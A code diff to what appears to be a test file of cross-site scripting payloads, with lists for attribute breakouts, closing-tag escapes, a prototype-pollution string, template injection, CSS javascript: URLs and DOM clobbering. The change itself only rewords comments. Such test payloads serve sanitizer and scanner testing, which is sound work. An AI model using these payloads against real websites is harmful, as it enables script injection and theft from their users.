@@ -67,7 +67,7 @@ const attributes = [
   `x" tabindex=1 onfocusin=${CALL} autofocus "`,
 ] as const;
 
-/** Ends of elements whose content is no markup. */
+/** Closing tags of elements whose content is not markup. */
 const enclosed = ['title', 'textarea', 'style', 'script', 'noscript', 'xmp', 'iframe', 'template'].map(
   (element) => `</${element}><img src=x onerror=${CALL}>`,
 );
@@ -103,7 +103,7 @@ const inScripts = [
   `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL}>"}}`,
 ] as const;
 
-/** Of languages that build pages, on the server or in the browser. */
+/** Syntax of template languages, on the server or in the browser. */
 const templates = [
   `{{${CALL}}}`,
   `{{{<img src=x onerror=${CALL}>}}}`,
@@ -147,7 +147,7 @@ const styles = [
   `<style>@font-face{src:url(javascript:${CALL})}</style>`,
 ] as const;
 
-/** Elements that take the place of what a script believes to find in the document. */
+/** Elements that replace what a script expects in the document. */
 const clobbering = [
   `<a id=ran></a><a id=ran name=x href="javascript:${CALL}"></a>`,
   `<form id=attributes><input name=nodeName onfocus=${CALL} autofocus>`,
